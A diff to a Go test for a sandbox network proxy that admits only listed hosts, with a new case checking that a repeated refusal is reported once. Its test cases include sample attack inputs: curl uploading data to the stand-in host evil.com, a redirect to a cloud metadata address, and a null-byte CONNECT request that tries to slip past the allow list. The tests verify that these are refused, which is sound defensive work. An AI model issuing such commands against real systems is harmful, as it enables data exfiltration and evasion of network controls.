@@ -37,7 +37,7 @@ func TestInside(t *testing.T) {
 	r.serve(public+":443", secure)
 	r.serve(public+":80", plain)
 	dir := t.TempDir()
-	box := sandbox.Box{Dir: filepath.Join(dir, "work"), Home: filepath.Join(dir, "home"), Proxy: r.socket}
+	box := sandbox.Box{Dir: filepath.Join(dir, "work"), Home: filepath.Join(dir, "home"), Proxy: r.proxy.Serve}
 	if err := os.Mkdir(box.Dir, 0o700); err != nil {
 		t.Fatal(err)
 	}
@@ -57,6 +57,7 @@ func TestInside(t *testing.T) {
 		{`curl -sSk https://a.org/`, true, "secure a.org"},
 		{`curl -sSk https://evil.com/`, false, `network: evil.com is refused: allowed are a.org; a person can add it to "network" of the role or the team`},
 		{`head -c 3000000 /dev/zero | curl -sS --data-binary @- http://evil.com/`, true, "network: evil.com is refused"},
+		{`for i in 1 2; do curl -s http://evil.com/ > /dev/null; done`, true, "network: evil.com is refused"},
 		{`curl -sSL http://a.org/away`, true, "network: 169.254.169.254 is refused"},
 		{`curl -sSk https://a.org:4222/`, false, "network: a.org:4222 is refused: of listed hosts ports 80 and 443 are allowed"},
 		{`printf 'CONNECT evil.com\0.a.org:443 HTTP/1.1\r\n\r\n' | curl -s --max-time 10 telnet://127.0.0.1:3128`, true, "400 Bad Request"},
@@ -75,6 +76,9 @@ func TestInside(t *testing.T) {
 		}
 		if (exit.Code == 0) != tt.ok || !strings.Contains(output.String(), tt.want) {
 			t.Errorf("%s: %+v: %s", tt.script, exit, &output)
+		}
+		if strings.HasPrefix(tt.script, "for ") && strings.Count(output.String(), "network: ") != 1 {
+			t.Errorf("%s: the reason does not stand there once: %s", tt.script, &output)
 		}
 	}
 	looked, dialled := r.seen()
